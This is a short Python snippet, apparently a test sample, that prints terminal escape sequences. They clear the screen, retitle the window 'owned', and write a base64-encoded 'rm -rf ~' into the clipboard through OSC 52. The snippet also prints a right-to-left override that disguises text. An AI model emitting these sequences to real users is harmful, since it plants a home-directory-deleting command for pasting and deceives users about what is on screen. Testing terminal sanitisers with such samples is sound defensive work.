# Tries to drive the terminal: clear it, retitle it, write the clipboard.
print("\x1b[2J\x1b[H", end="")
print("\x1b]0;owned\x07", end="")
print("\x1b]52;c;cm0gLXJmIH4=\x07", end="")
print("visible text \u202eevil\u202c done")
